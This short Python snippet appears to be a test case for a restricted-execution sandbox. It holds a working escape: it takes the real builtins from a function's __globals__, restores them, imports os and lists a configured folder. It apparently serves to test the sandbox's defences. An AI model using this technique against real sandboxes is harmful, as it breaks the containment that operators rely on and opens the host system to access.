# expect: done
# idea: use the very function that explains refusals: its globals hold the modules of the language layer
def tick(ctx):
    refuse = __builtins__.get("__refuse__") or __builtins__["__import__"]
    space = refuse.__globals__
    real = space["builtins"]
    __builtins__.update(real.__dict__)
    try:
        import os

        print("ESCAPED: listed", os.scandir(ctx.config["folder"]))
    except Exception as error:
        print("refused:", error)
